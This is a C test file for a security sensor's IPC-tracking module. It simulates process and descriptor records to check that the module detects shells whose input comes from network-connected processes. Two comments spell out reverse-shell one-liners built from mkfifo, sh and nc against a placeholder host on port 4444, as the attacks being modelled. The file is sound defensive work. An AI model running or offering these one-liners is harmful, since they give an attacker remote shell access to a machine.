/* SPDX-License-Identifier: Apache-2.0 */
/*
 * ipc: which shells are fed by whom, whatever order the edges come in.
 *
 * A world is a process table, a graph, and the reports so far as lines "reader <- ... <- peer edge kind [path]". Its
 * verbs are what programs do; each applies the record that the kernel side would send.
 */
#include "sensor/ipc/ipc.h"

#include "records.h"
#include "test.h"

enum { R = WIRE_FD_READ, W = WIRE_FD_WRITE, RW = R | W, MAX_FDS = 16 };

struct world {
	struct proc_table *t;
	struct ipc *g;
	char log[8192];
	size_t log_len;
	uint32_t n_reports;
	struct ipc_chain last;
	uint64_t now;
	/* what each process has, as the kernel knows: by pid and descriptor */
	struct wire_fd fd[64][MAX_FDS];
};

static struct world w;

static void on_report(void *user, const struct ipc_chain *c)
{
	static const char *const edges[] = { "exec", "open", "dup", "pipe", "connect", "fork" };

	(void)user;
	w.n_reports++;
	w.last = *c;
	for (uint32_t i = 0; i < c->n_procs; i++)
		w.log_len += (size_t)snprintf(w.log + w.log_len, sizeof w.log - w.log_len, "%s%s", i ? " <- " : "", c->procs[i]->comm);
	w.log_len += (size_t)snprintf(w.log + w.log_len, sizeof w.log - w.log_len, " %s%s%s\n", edges[c->edge],
				      c->path ? " " : "", c->path ? c->path : "");
	CHECK(c->reader == c->procs[0] && c->peer == c->procs[c->n_procs - 1]);
}

static void on_drop(void *user, struct proc *p)
{
	(void)user;
	ipc_forget(w.g, p);
}

static void begin(void)
{
	memset(&w, 0, sizeof w);
	CHECK_OK(proc_table_new(&w.t));
	CHECK_OK(ipc_new(on_report, NULL, &w.g));
	proc_table_on_drop(w.t, on_drop, NULL);
}

static void end(void)
{
	ipc_free(w.g);
	proc_table_on_drop(w.t, NULL, NULL);
	proc_table_free(w.t);
}

static struct proc *proc(uint32_t pid)
{
	return proc_find_pid(w.t, pid);
}

static void exec_as(uint32_t pid, const char *comm, uint16_t kind)
{
	static struct rec r;
	struct wire_fd fds[MAX_FDS];
	uint32_t n = 0;
	struct proc *p;

	for (uint32_t i = 0; i < MAX_FDS; i++) {
		if (w.fd[pid][i].flags & WIRE_FD_CLOEXEC)
			w.fd[pid][i].kind = WIRE_FD_NONE;
		if (w.fd[pid][i].kind)
			fds[n++] = w.fd[pid][i];
	}
	rec_exec(&r, &(struct rec_exec){ .pid = pid, .comm = comm, .kind = kind, .time_ns = ++w.now, .fds = fds, .n_fds = n });
	p = proc_on_exec(w.t, &r.exec, &(struct proc_exec_strs){ .exe_path = { comm, (uint32_t)strlen(comm) }, .cwd = { "/", 1 }, .args = "" });
	ipc_on_exec(w.g, p, fds, n, kind == WIRE_TASK);
}

static void run(uint32_t pid, const char *comm)
{
	exec_as(pid, comm, WIRE_EXEC);
}

static void fork_(uint32_t parent, uint32_t child)
{
	struct rec r;

	memcpy(w.fd[child], w.fd[parent], sizeof w.fd[child]);
	rec_fork(&r, parent, proc(parent)->comm, child, ++w.now);
	ipc_on_fork(w.g, proc(parent), proc_on_fork(w.t, &r.fork));
}

static void exit_(uint32_t pid)
{
	struct rec r;
	struct proc *p = proc(pid);

	memset(w.fd[pid], 0, sizeof w.fd[pid]);
	rec_exit(&r, pid, p->comm, 0, ++w.now);
	(void)proc_on_exit(w.t, &r.exit);
	ipc_on_exit(w.g, p);
	proc_sweep(w.t, UINT64_MAX);
}

static void fds_record(uint32_t pid, uint32_t op, const struct wire_fd *fds, uint32_t n)
{
	struct rec r;

	rec_fds(&r, pid, proc(pid)->comm, op, fds, n, ++w.now);
	ipc_on_fds(w.g, proc(pid), &r.fds);
}

static void pipe_(uint32_t pid, uint32_t rfd, uint32_t wfd, uint64_t ino)
{
	struct wire_fd fds[2] = { rec_pipe(rfd, ino, R), rec_pipe(wfd, ino, W) };

	w.fd[pid][rfd] = fds[0];
	w.fd[pid][wfd] = fds[1];
	fds_record(pid, WIRE_FDS_OPEN, fds, 2);
}

static bool tracked(const struct wire_fd *fd)
{
	return fd->kind >= WIRE_FD_PIPE && fd->kind <= WIRE_FD_IPV6;
}

static void dup2_(uint32_t pid, uint32_t from, uint32_t to)
{
	bool was = tracked(&w.fd[pid][to]);

	w.fd[pid][to] = w.fd[pid][from];
	w.fd[pid][to].fd = to;
	if (was || tracked(&w.fd[pid][to]))
		fds_record(pid, WIRE_FDS_DUP, &w.fd[pid][to], 1);
}

static void close_(uint32_t pid, uint32_t fd)
{
	struct wire_fd gone = { .fd = fd };
	bool was = tracked(&w.fd[pid][fd]);

	w.fd[pid][fd] = (struct wire_fd){ 0 };
	if (was)
		fds_record(pid, WIRE_FDS_CLOSE, &gone, 1);
}

static void open_fifo(uint32_t pid, uint32_t fd, uint64_t ino, uint8_t flags, const char *path)
{
	w.fd[pid][fd] = (struct wire_fd){ .fd = fd, .kind = WIRE_FD_FIFO, .flags = flags, .ino = ino, .dev = 1 };
	ipc_on_open(w.g, proc(pid), &w.fd[pid][fd], path);
}

static void connect_to(uint32_t pid, uint32_t fd, uint8_t host, uint16_t port)
{
	w.fd[pid][fd] = rec_tcp4(fd, 1000 + pid * 16 + fd, host, 40000, port);
	ipc_on_connect(w.g, proc(pid), &w.fd[pid][fd], NULL);
}

static void connect_(uint32_t pid, uint32_t fd)
{
	connect_to(pid, fd, 9, 4444);
}

static struct wire_fd unix_end(uint32_t fd, uint64_t ino)
{
	return (struct wire_fd){ .fd = fd, .kind = WIRE_FD_UNIX, .flags = RW, .ino = ino, .dev = 8 };
}

static void socketpair_(uint32_t pid, uint32_t a, uint32_t b, uint64_t ino)
{
	w.fd[pid][a] = unix_end(a, ino);
	w.fd[pid][b] = unix_end(b, ino);
	fds_record(pid, WIRE_FDS_OPEN, (struct wire_fd[]){ w.fd[pid][a], w.fd[pid][b] }, 2);
}

static void terminal(uint32_t pid)
{
	for (uint32_t i = 0; i < 3; i++)
		w.fd[pid][i] = (struct wire_fd){ .fd = i, .kind = WIRE_FD_CHAR, .flags = RW, .ino = 3, .dev = 6 };
}

/* pid 1 is a shell on a terminal. */
static void begin_shell(void)
{
	begin();
	terminal(1);
	exec_as(1, "bash", WIRE_TASK);
}

/* As a shell starts one element of a pipeline: fork, dup2 of in and out (-1: none), close of both ends' originals. */
static void spawn(uint32_t shell, uint32_t pid, int in, int out)
{
	fork_(shell, pid);
	if (in >= 0) {
		dup2_(pid, (uint32_t)in, 0);
		close_(pid, (uint32_t)in);
	}
	if (out >= 0) {
		dup2_(pid, (uint32_t)out, 1);
		close_(pid, (uint32_t)out);
	}
}

/* ---- the two scenarios, record by record ---- */

TEST(a_shell_whose_stdin_is_a_fifo_that_a_connected_process_writes)
{
	/* mkfifo /tmp/f; sh < /tmp/f | nc host 4444 > /tmp/f   as dash runs it */
	begin_shell();
	pipe_(1, 3, 4, 500);
	fork_(1, 2);
	close_(2, 3);
	dup2_(2, 4, 1);
	close_(2, 4);
	fork_(1, 3);
	close_(1, 3);
	close_(1, 4);
	close_(3, 4);
	dup2_(3, 3, 0);
	close_(3, 3);
	/* both opens return when the other end is there */
	open_fifo(2, 3, 600, R, "/tmp/f");
	open_fifo(3, 3, 600, W, "/tmp/f");
	dup2_(2, 3, 0);
	close_(2, 3);
	run(2, "sh");
	dup2_(3, 3, 1);
	close_(3, 3);
	run(3, "nc");
	CHECK_STR(w.log, "");
	connect_(3, 3);
	CHECK_STR(w.log, "sh <- nc connect /tmp/f\n");
	CHECK_EQ(w.last.kind, WIRE_FD_FIFO);
	CHECK_EQ(w.last.ino, 600);
	CHECK_EQ(w.last.reader_fd, 0);
	CHECK_EQ(w.last.sock.remote_port, 4444);
	CHECK_EQ(w.last.reader->key.pid, 2);
	CHECK_EQ(w.last.peer->key.pid, 3);
	/* what the attacker types makes the shell fork and exec: each program reads what the shell reads, no shell anew */
	fork_(2, 4);
	CHECK_EQ(w.n_reports, 1);
	run(4, "id");
	CHECK_STR(w.log, "sh <- nc connect /tmp/f\nid <- nc exec /tmp/f\n");
	exit_(4);
	end();
}

/* mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f   as bash runs it */
static void three_process_chain(void)
{
	begin_shell();
	pipe_(1, 3, 4, 500); /* cat to sh */
	fork_(1, 2);
	close_(1, 4);
	pipe_(1, 4, 5, 501); /* sh to nc */
	fork_(1, 3);
	close_(1, 5);
	close_(1, 3);
	fork_(1, 4);
	close_(1, 4);
	/* cat */
	close_(2, 3);
	dup2_(2, 4, 1);
	close_(2, 4);
	run(2, "cat");
	/* sh -i */
	dup2_(3, 3, 0);
	close_(3, 3);
	close_(3, 4);
	dup2_(3, 5, 1);
	close_(3, 5);
	dup2_(3, 1, 2);
	run(3, "sh");
	/* nc: its redirection blocks until cat opens for reading */
	dup2_(4, 4, 0);
	close_(4, 4);
}

TEST(the_three_process_chain_ends_with_the_connect)
{
	three_process_chain();
	open_fifo(2, 3, 600, R, "/tmp/f");
	open_fifo(4, 3, 600, W, "/tmp/f");
	dup2_(4, 3, 1);
	close_(4, 3);
	run(4, "nc");
	CHECK_STR(w.log, "");
	connect_(4, 3);
	CHECK_STR(w.log, "sh <- cat <- nc connect /tmp/f\n");
	CHECK_EQ(w.last.kind, WIRE_FD_PIPE);
	CHECK_EQ(w.last.ino, 500);
	CHECK_EQ(w.last.n_procs, 3);
	/* nothing more while they all live on */
	fork_(3, 5);
	dup2_(3, 0, 7);
	CHECK_EQ(w.n_reports, 1);
	end();
}

TEST(the_three_process_chain_ends_with_the_open)
{
	/* a peer that was connected before it opens the FIFO itself: cat's own open is the last edge */
	three_process_chain();
	run(4, "implant");
	connect_(4, 3);
	open_fifo(4, 5, 600, W, "/tmp/f");
	CHECK_STR(w.log, "");
	open_fifo(2, 3, 600, R, "/tmp/f");
	CHECK_STR(w.log, "sh <- cat <- implant open /tmp/f\n");
	end();
}

TEST(the_three_process_chain_ends_with_the_dup)
{
	/* the peer duplicates the FIFO onto a descriptor only after all else: no new edge. The reader's dup onto stdin is one. */
	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	run(2, "implant");
	connect_(2, 5);
	fork_(1, 3);
	run(3, "sh"); /* has the pipe on 3 still, and a terminal on 0 */
	CHECK_STR(w.log, "");
	dup2_(3, 3, 0);
	CHECK_STR(w.log, "sh <- implant dup\n");
	dup2_(3, 3, 9);
	CHECK_EQ(w.n_reports, 1);
	end();
}

TEST(the_chain_ends_with_an_exec)
{
	/* python: connect, pipe, fork, dup2, exec of a shell: until the exec, reader and peer are one image in two processes */
	begin_shell();
	fork_(1, 2);
	run(2, "python");
	connect_(2, 3);
	pipe_(2, 4, 5, 500);
	fork_(2, 3);
	close_(3, 5);
	CHECK_STR(w.log, "");
	dup2_(3, 4, 0);
	CHECK_STR(w.log, "python <- python dup\n");
	run(3, "sh");
	CHECK_STR(w.log, "python <- python dup\nsh <- python exec\n");
	end();
}

TEST(the_chain_ends_with_a_fork)
{
	/* a process that reads what it writes itself, connected: the child that it forks is somebody else */
	begin_shell();
	fork_(1, 2);
	run(2, "evil");
	pipe_(2, 4, 5, 500);
	dup2_(2, 4, 0);
	connect_(2, 3);
	CHECK_STR(w.log, "");
	fork_(2, 3);
	CHECK_STR(w.log, "evil <- evil fork\n");
	end();
}

TEST(the_chain_ends_when_a_socket_is_made)
{
	/* a shell behind a unix socket: the connection is complete only when the server accepts */
	begin_shell();
	fork_(1, 2);
	run(2, "implant");
	connect_(2, 3);
	fork_(1, 3);
	run(3, "sh");
	w.fd[3][0] = unix_end(0, 900);
	ipc_on_connect(w.g, proc(3), &w.fd[3][0], "/tmp/sock");
	CHECK_STR(w.log, "");
	w.fd[2][4] = unix_end(4, 900);
	fds_record(2, WIRE_FDS_OPEN, &w.fd[2][4], 1);
	CHECK_STR(w.log, "sh <- implant pipe /tmp/sock\n");
	CHECK_EQ(w.last.kind, WIRE_FD_UNIX);
	end();
}

TEST(curl_into_a_shell_is_reported_when_curl_connects)
{
	/* once for the resolver, once for the host it then talks to; not for further connections there */
	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	spawn(1, 3, 3, -1);
	close_(1, 3);
	close_(1, 4);
	run(2, "curl");
	run(3, "sh");
	connect_to(2, 5, 53, 53);
	close_(2, 5);
	connect_to(2, 5, 9, 443);
	CHECK_STR(w.log, "sh <- curl connect\nsh <- curl connect\n");
	CHECK_EQ(w.last.sock.remote_port, 443);
	connect_to(2, 6, 9, 443);
	CHECK_EQ(w.n_reports, 2);
	end();
}

TEST(a_fifo_keeps_its_path_while_anybody_has_it)
{
	struct wire_fd out = { .fd = 1, .kind = WIRE_FD_FIFO, .flags = W, .ino = 600, .dev = 1 };

	begin_shell();
	fork_(1, 2);
	open_fifo(2, 0, 600, R, "/tmp/f");
	run(2, "sh"); /* alone with it */
	fork_(1, 3);
	run(3, "nc");
	connect_(3, 5);
	fds_record(3, WIRE_FDS_DUP, &out, 1); /* how it got there was not seen */
	CHECK_STR(w.log, "sh <- nc dup /tmp/f\n");
	end();
}

TEST(of_several_sockets_the_one_that_matters_is_named)
{
	/* what was just connected; otherwise the latest tcp one, not the resolver's */
	struct wire_fd udp = rec_tcp4(7, 300, 53, 40000, 53);

	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	run(2, "agent");
	connect_to(2, 5, 1, 80);
	connect_to(2, 6, 2, 443);
	udp.l4proto = 17;
	w.fd[2][7] = udp;
	ipc_on_connect(w.g, proc(2), &udp, NULL);
	spawn(1, 3, 3, -1);
	run(3, "sh");
	CHECK_STR(w.log, "bash <- agent dup\nsh <- agent exec\n");
	CHECK_EQ(w.last.sock.remote_port, 443);
	end();
}

TEST(a_socket_leads_out_also_after_an_exec_and_a_dup)
{
	for (int dup = 0; dup < 2; dup++) {
		begin_shell();
		pipe_(1, 3, 4, 500);
		spawn(1, 2, -1, 4);
		run(2, "python");
		connect_(2, 5);
		if (dup) {
			dup2_(2, 5, 8);
			close_(2, 5);
		}
		run(2, "relay");
		spawn(1, 3, 3, -1);
		run(3, "sh");
		CHECK_HAS(w.log, "sh <- relay exec\n");
		end();
	}
}

/* ---- breaking chains ---- */

static void shell_fed_by_peer(void)
{
	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	spawn(1, 3, 3, -1);
	close_(1, 3);
	close_(1, 4);
	close_(2, 3);
	close_(3, 4);
	run(2, "relay");
	run(3, "sh");
}

TEST(what_is_closed_or_gone_is_no_edge)
{
	static const struct {
		const char *name;
		int what;
	} rows[] = { { "the writer closed its end", 0 }, { "the reader closed stdin", 1 }, { "the writer exited", 2 },
		     { "the socket was closed", 3 },	 { "the writer's end was replaced by dup", 4 },
		     { "the reader's stdin was replaced by dup", 5 }, { "close-on-exec", 6 }, { "the reader exited", 7 } };

	for (size_t i = 0; i < countof(rows); i++) {
		test_row = rows[i].name;
		shell_fed_by_peer();
		switch (rows[i].what) {
		case 0:
			close_(2, 1);
			break;
		case 1:
			close_(3, 0);
			break;
		case 2:
			exit_(2);
			fork_(1, 2);
			break;
		case 3:
			w.fd[2][5] = rec_tcp4(5, 77, 9, 40000, 4444);
			break; /* never connected here: a socket that accept gave */
		case 4:
			dup2_(2, 2, 1);
			break;
		case 5:
			dup2_(3, 2, 0);
			break;
		case 6:
			w.fd[2][1].flags |= WIRE_FD_CLOEXEC;
			run(2, "relay");
			break;
		case 7:
			exit_(3);
			break;
		}
		if (rows[i].what == 3)
			run(2, "relay");
		else
			connect_(2, 5);
		CHECK_STR(w.log, "");
		end();
	}
	test_row = "and when nothing is closed";
	shell_fed_by_peer();
	connect_(2, 5);
	CHECK_STR(w.log, "sh <- relay connect\n");
	end();
}

TEST(a_closed_socket_is_forgotten)
{
	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	run(2, "ntpd");
	connect_(2, 5);
	close_(2, 5);
	spawn(1, 3, 3, -1);
	run(3, "sh");
	CHECK_STR(w.log, "");
	end();
}

TEST(descriptors_above_the_record_are_kept_over_exec_unless_close_on_exec)
{
	for (int cloexec = 0; cloexec < 2; cloexec++) {
		struct wire_fd high = rec_pipe(20, 500, W);

		begin_shell();
		pipe_(1, 3, 4, 500);
		fork_(1, 2);
		high.flags |= cloexec ? WIRE_FD_CLOEXEC : 0;
		fds_record(2, WIRE_FDS_DUP, &high, 1);
		close_(2, 4);
		run(2, "relay");
		spawn(1, 3, 3, -1);
		run(3, "sh");
		connect_(2, 5);
		CHECK_STR(w.log, cloexec ? "" : "sh <- relay connect\n");
		end();
	}
}

/* ---- hops ---- */

/* A line of n pipes: process 10 reads from 11, which reads from 12...; the last one connects. */
static void line_of(uint32_t n_hops)
{
	begin_shell();
	for (uint32_t i = 0; i <= n_hops; i++) {
		char comm[8];

		(void)snprintf(comm, sizeof comm, "p%u", i);
		fork_(1, 10 + i);
		if (i) {
			w.fd[10 + i][1] = rec_pipe(1, 500 + i, W);
			fds_record(10 + i, WIRE_FDS_DUP, &w.fd[10 + i][1], 1);
		}
		if (i < n_hops) {
			w.fd[10 + i][0] = rec_pipe(0, 500 + i + 1, R);
			fds_record(10 + i, WIRE_FDS_DUP, &w.fd[10 + i][0], 1);
		}
		run(10 + i, comm);
	}
	connect_(10 + n_hops, 5);
}

TEST(four_hops_are_followed_and_five_are_not)
{
	line_of(4);
	CHECK_HAS(w.log, "p0 <- p1 <- p2 <- p3 <- p4 connect\n");
	CHECK_EQ(w.n_reports, 4); /* each on the way is fed too */
	end();
	line_of(5);
	CHECK(!strstr(w.log, "p0"));
	CHECK_HAS(w.log, "p1 <- p2 <- p3 <- p4 <- p5 connect\n");
	/* nor when it is the far reader that changes */
	w.log[w.log_len = 0] = 0;
	run(10, "q0");
	CHECK_STR(w.log, "");
	end();
}

TEST(the_last_edge_may_be_in_the_middle)
{
	line_of(4);
	w.log_len = w.n_reports = 0;
	/* p2 exits and another takes its place: joined by the dup of its output */
	exit_(12);
	fork_(1, 30);
	w.fd[30][0] = rec_pipe(0, 503, R);
	fds_record(30, WIRE_FDS_DUP, &w.fd[30][0], 1);
	run(30, "tee");
	w.log_len = w.n_reports = 0;
	w.log[0] = 0;
	w.fd[30][1] = rec_pipe(1, 502, W);
	fds_record(30, WIRE_FDS_DUP, &w.fd[30][1], 1);
	/* the pairs (p0, p4) and (p1, p4) were reported when p2 was there */
	CHECK_STR(w.log, "");
	run(10, "q0");
	CHECK_STR(w.log, "q0 <- p1 <- tee <- p3 <- p4 exec\n");
	end();
}

/* ---- quiet ---- */

TEST(pipelines_without_a_socket_are_quiet_also_next_to_one)
{
	begin_shell();
	/* somebody else is connected, and unrelated */
	fork_(1, 40);
	run(40, "browser");
	connect_(40, 5);
	/* ls | grep x | sh */
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	close_(1, 4);
	pipe_(1, 4, 5, 501);
	spawn(1, 3, 3, 5);
	close_(1, 5);
	close_(1, 3);
	spawn(1, 4, 4, -1);
	close_(1, 4);
	run(2, "ls");
	run(3, "grep");
	run(4, "sh");
	exit_(2);
	exit_(3);
	exit_(4);
	CHECK_STR(w.log, "");
	CHECK_EQ(w.n_reports, 0);
	end();
}

TEST(who_writes_to_the_network_feeds_nobody)
{
	/* sh | nc: data goes out, none comes in */
	begin_shell();
	pipe_(1, 3, 4, 500);
	spawn(1, 2, -1, 4);
	spawn(1, 3, 3, -1);
	close_(1, 3);
	close_(1, 4);
	run(2, "sh");
	run(3, "nc");
	connect_(3, 5);
	CHECK_STR(w.log, "");
	end();
}

TEST(one_process_with_both_ends_is_no_edge)
{
	begin_shell();
	fork_(1, 2);
	run(2, "daemon");
	pipe_(2, 0, 5, 500);
	open_fifo(2, 6, 600, RW, "/run/f");
	connect_(2, 7);
	CHECK_STR(w.log, "");
	end();
}

TEST(holders_of_the_same_end_of_a_socket_do_not_feed_each_other)
{
	/* a service starts sh -c "curl ..." with one end of a socket pair as stdin: curl has the same end as the shell */
	begin_shell();
	fork_(1, 2);
	run(2, "node");
	socketpair_(2, 5, 6, 900);
	fork_(2, 3);
	dup2_(3, 6, 0);
	close_(3, 5);
	close_(3, 6);
	close_(2, 6);
	run(3, "sh");
	fork_(3, 4);
	run(4, "curl");
	connect_(4, 5);
	CHECK_STR(w.log, "");
	/* the other end does */
	connect_(2, 7);
	CHECK_HAS(w.log, "sh <- node connect\n");
	end();
}

TEST(either_end_of_a_pair_may_be_the_childs)
{
	for (uint32_t mine = 5; mine <= 6; mine++) {
		uint32_t theirs = 11 - mine;

		begin_shell();
		fork_(1, 2);
		run(2, "node");
		socketpair_(2, 5, 6, 900);
		fork_(2, 3);
		dup2_(3, mine, 0);
		close_(3, 5);
		close_(3, 6);
		close_(2, mine);
		run(3, "sh");
		connect_(2, 7);
		CHECK_STR(w.log, "sh <- node connect\n");
		close_(2, theirs);
		connect_to(2, 8, 77, 99);
		CHECK_EQ(w.n_reports, 1);
		end();
	}
}

TEST(a_message_bus_does_not_join_everybody_to_everybody)
{
	begin_shell();
	fork_(1, 2);
	run(2, "bus");
	for (uint32_t i = 0; i < 12; i++) { /* clients 10 to 21 */
		struct wire_fd at_bus = unix_end(20 + i, 900 + i);

		fork_(1, 10 + i);
		run(10 + i, "client");
		w.fd[10 + i][5] = unix_end(5, 900 + i);
		ipc_on_connect(w.g, proc(10 + i), &w.fd[10 + i][5], "/run/bus");
		fds_record(2, WIRE_FDS_OPEN, &at_bus, 1);
	}
	/* client 10 feeds a shell, client 11 is connected */
	pipe_(10, 3, 4, 500);
	spawn(10, 30, 3, -1);
	run(30, "sh");
	connect_(11, 7);
	CHECK_STR(w.log, "");
	/* the same over a relay that is no bus */
	fork_(1, 40);
	run(40, "relay");
	w.fd[40][3] = unix_end(3, 950);
	w.fd[40][4] = unix_end(4, 951);
	fds_record(40, WIRE_FDS_OPEN, (struct wire_fd[]){ w.fd[40][3] }, 1);
	fds_record(40, WIRE_FDS_OPEN, (struct wire_fd[]){ w.fd[40][4] }, 1);
	w.fd[10][8] = unix_end(8, 950);
	fds_record(10, WIRE_FDS_OPEN, &w.fd[10][8], 1);
	w.fd[11][8] = unix_end(8, 951);
	fds_record(11, WIRE_FDS_OPEN, &w.fd[11][8], 1);
	CHECK_STR(w.log, "sh <- client <- relay <- client pipe\n");
	end();
}

/* ---- what was there before ---- */

TEST(sockets_from_before_the_sensor_count_when_their_ports_say_who_called)
{
	static const struct {
		const char *name;
		uint16_t local, remote;
		bool want;
	} rows[] = { { "from a high port to a low one", 40000, 443, true },
		     { "a server's", 443, 40000, false },
		     { "both low", 1000, 443, false },
		     { "both high", 40000, 40001, false },
		     { "not connected", 40000, 0, false } };

	for (size_t i = 0; i < countof(rows); i++) {
		test_row = rows[i].name;
		begin();
		terminal(1);
		terminal(2);
		w.fd[1][1] = rec_pipe(1, 500, W);
		w.fd[1][5] = rec_tcp4(5, 77, 9, rows[i].local, rows[i].remote);
		if (!rows[i].remote)
			w.fd[1][5].flags &= (uint8_t)~WIRE_FD_CONNECTED;
		w.fd[2][0] = rec_pipe(0, 500, R);
		exec_as(1, "peer", WIRE_TASK);
		exec_as(2, "sh", WIRE_TASK);
		CHECK_STR(w.log, rows[i].want ? "sh <- peer exec\n" : "");
		/* a rescan finds the same and says nothing */
		exec_as(1, "peer", WIRE_TASK);
		exec_as(2, "sh", WIRE_TASK);
		CHECK_EQ(w.n_reports, rows[i].want);
		end();
	}
}

/* ---- bounds ---- */

TEST(memory_follows_what_is_open)
{
	begin_shell();
	for (uint32_t i = 0; i < 20000; i++) {
		fork_(1, 2);
		pipe_(2, 3, 4, 500 + i);
		open_fifo(2, 5, 100000 + i, R, "/tmp/some/fifo");
		connect_(2, 6);
		if (i % 2)
			run(2, "x");
		if (i % 3)
			close_(2, 4);
		exit_(2);
		CHECK_EQ(ipc_holds(w.g), 0);
	}
	CHECK_EQ(ipc_cut(w.g), 0);
	end();
}

TEST(a_process_with_more_descriptors_than_are_kept_is_cut_and_counted)
{
	begin_shell();
	fork_(1, 2);
	for (uint32_t i = 0; i < 2 * IPC_MAX_FDS; i++) {
		struct wire_fd fd = rec_pipe(i, 500 + i, W);

		fds_record(2, WIRE_FDS_OPEN, &fd, 1);
	}
	CHECK_EQ(ipc_holds(w.g), IPC_MAX_FDS);
	CHECK_EQ(ipc_cut(w.g), IPC_MAX_FDS);
	end();
}

TEST(a_channel_that_many_hold_costs_a_bounded_search)
{
	begin_shell();
	fork_(1, 2);
	run(2, "peer");
	connect_(2, 5);
	pipe_(1, 3, 4, 500);
	for (uint32_t i = 0; i < 3000; i++) {
		struct rec r;

		rec_fork(&r, 1, "bash", 1000 + i, ++w.now);
		ipc_on_fork(w.g, proc(1), proc_on_fork(w.t, &r.fork));
	}
	CHECK(ipc_cut(w.g) > 0);
	/* and what is near is still found */
	fork_(1, 3);
	pipe_(2, 7, 8, 501);
	fork_(2, 4);
	dup2_(4, 7, 0);
	run(4, "sh");
	CHECK_HAS(w.log, "sh <- peer exec\n");
	end();
}
